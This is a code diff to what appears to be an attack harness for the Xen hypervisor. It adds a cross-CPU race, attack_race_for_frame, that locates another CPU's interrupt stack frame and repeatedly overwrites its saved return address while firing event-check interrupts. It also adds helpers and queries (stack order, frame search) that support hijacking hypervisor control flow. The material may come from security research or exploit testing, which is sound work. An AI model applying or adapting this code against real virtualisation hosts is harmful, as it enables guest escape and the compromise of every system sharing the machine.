@@ -52,12 +52,14 @@ void noreturn attack_won(void)
 }
 
 /* As attack_won(), for who comes on a stack that is not the hypervisor's. */
+extern const unsigned long attack_stack_room;
+const unsigned long attack_stack_room = STACK_SIZE - 0x400;
 asm ( ".pushsection .text\n"
       ".globl attack_won_anywhere\n"
       ".type attack_won_anywhere, @function\n"
       "attack_won_anywhere:\n\t"
       "mov stack_base(%rip), %rsp\n\t"
-      "add $0x7c00, %rsp\n\t" /* of STACK_SIZE, 0x8000 */
+      "add attack_stack_room(%rip), %rsp\n\t"
       "jmp attack_won\n"
       ".size attack_won_anywhere, . - attack_won_anywhere\n"
       ".popsection" );
@@ -245,6 +247,15 @@ static int cf_check attack_wait_in_nmi(const struct cpu_user_regs *regs,
     return 1;
 }
 
+/* The frame of the interrupt that a function was called from, by where its return word lies: at RIP. */
+static unsigned long *attack_frame_above(unsigned long *slot)
+{
+    while ( slot[1] != __HYPERVISOR_CS )
+        slot++;
+
+    return slot;
+}
+
 /*
  * The attacker writes while the other CPU is in an interrupt. The two must not
  * be long at it, as other things wait for that CPU with interrupts off: what
@@ -269,8 +280,7 @@ static void attack_interrupt(bool nmi, bool frame, unsigned long value)
     at = attack_slot;
     if ( frame )
     {
-        while ( at[1] != __HYPERVISOR_CS )
-            at++;
+        at = attack_frame_above(at);
         at[4] = 0; /* %ss */
     }
     *(volatile unsigned long *)at = value;
@@ -279,6 +289,28 @@ static void attack_interrupt(bool nmi, bool frame, unsigned long value)
     mdelay(10);
     if ( nmi )
         set_nmi_callback(callback);
+}
+
+/* The other CPU rests, and each of its interrupts has its frame at the same place. */
+static void attack_race_for_frame(unsigned long value)
+{
+    const cpumask_t *other = cpumask_of(!smp_processor_id());
+    volatile unsigned long *rip;
+    unsigned int i, j;
+
+    attack_go = attack_waiting = 0;
+    on_selected_cpus(other, attack_wait_in_irq, NULL, 0);
+    while ( !attack_waiting )
+        cpu_relax();
+    rip = attack_frame_above(attack_slot);
+    attack_go = 1;
+    mdelay(10);
+    for ( i = 0; i < 5000; i++ )
+    {
+        smp_send_event_check_mask(other);
+        for ( j = 0; j < 1000; j++ )
+            *rip = value;
+    }
 }
 
 /* ---- mappings that Xen makes itself, from what the attacker has changed ---- */
@@ -437,6 +469,10 @@ static unsigned long attack_cause(unsigned long event, unsigned long b)
                          b);
         break;
 
+    case CAUSE_FRAME_RACE:
+        attack_race_for_frame(b);
+        break;
+
     case CAUSE_SAVE_CONTEXT:
         sync_vcpu_execstate(current->domain->vcpu[b]);
         break;
@@ -524,6 +560,7 @@ static unsigned long attack_fact(unsigned long fact, unsigned long b)
     case FACT_PER_CPU: return __per_cpu_offset[b];
     case FACT_GUEST_TABLE: return (unsigned long)&current->arch.guest_table;
     case FACT_ENTRY_CR3: return (unsigned long)&get_cpu_info()->xen_cr3;
+    case FACT_STACK_ORDER: return STACK_ORDER;
     case FACT_CR4_CACHE: return (unsigned long)&get_cpu_info()->cr4;
     case FACT_CR0: return read_cr0();
     case FACT_LINEAR:
